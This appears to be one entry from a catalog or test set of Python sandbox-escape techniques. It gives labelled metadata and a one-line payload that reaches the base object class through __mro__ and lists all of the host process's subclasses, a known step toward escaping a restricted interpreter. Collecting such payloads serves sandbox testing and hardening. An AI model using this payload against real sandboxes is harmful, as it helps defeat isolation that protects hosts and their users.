# aim: reach object through the method resolution order and list its subclasses
# mechanism: __mro__ and a subscript instead of __base__
# language: check
# reason: __subclasses__ lists every class of the host process
# jail: process
# plain: loot

loot("".__class__.__mro__[-1].__subclasses__())
